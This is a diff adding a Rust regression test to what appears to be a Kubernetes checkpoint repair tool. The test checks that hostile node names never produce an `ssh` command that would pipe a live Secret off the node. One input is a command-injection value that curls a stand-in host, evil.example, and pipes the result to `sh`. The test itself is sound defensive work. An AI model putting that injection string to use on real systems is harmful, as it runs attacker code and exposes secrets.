@@ -242,6 +242,16 @@ fn stale_checkpoint_fires_on_an_expired_copy_that_differs_from_the_secret() {
     );
     let out = all_formats(&s);
     assert!(!out.contains("BEGIN CERTIFICATE"));
+
+    // A node name that is no host name (`etc/hostname` is bundle data): the live Secret is
+    // never piped to `ssh` at it (hostile round 5, H1).
+    for hostile in ["cp-1@evil.example.com", "$(curl${IFS}evil.example|sh)@cp-1"] {
+        let mut s = checkpoint_snapshot(cert("apiserver"), cert("ca"));
+        s.nodes[0].name = hostile.into();
+        let cmds = plan_commands(&s, "fix-checkpoint-on-disk");
+        assert!(!cmds.iter().any(|c| c.contains("ssh")), "{cmds:#?}");
+        assert!(cmds.iter().any(|c| c.contains("check it by hand")), "{cmds:#?}");
+    }
 }
 
 #[test]
